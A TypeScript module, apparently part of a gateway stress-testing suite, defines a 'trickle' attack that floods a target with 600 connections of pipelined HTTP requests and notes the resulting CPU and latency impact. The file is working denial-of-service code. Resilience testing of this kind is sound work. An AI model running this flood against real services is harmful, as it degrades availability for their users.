import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, open } from './attack.ts';

const CONNECTIONS = 600;
const PER_SECOND = 30;
const REQUESTS = Buffer.from('GET / HTTP/1.1\r\n\r\n'.repeat(3640));

/** It took a whole processor, and a session's round trip went from 1 to 54 ms. */
export const trickle: Attack = {
  name: 'trickle',
  what: '30 connections a second for 20 seconds send 3,640 requests each in one piece: 2 MB a second',
  async run(target) {
    for (let count = 0; count < CONNECTIONS; count++) {
      // Not awaited: a gateway that takes long must not slow the attack down.
      void open(target).then((socket) => {
        socket.resume().write(REQUESTS);
        setTimeout(() => socket.destroy(), 2000);
      });
      await wait(1000 / PER_SECOND);
    }
    return { connections: CONNECTIONS, bytes: CONNECTIONS * REQUESTS.length };
  },
};
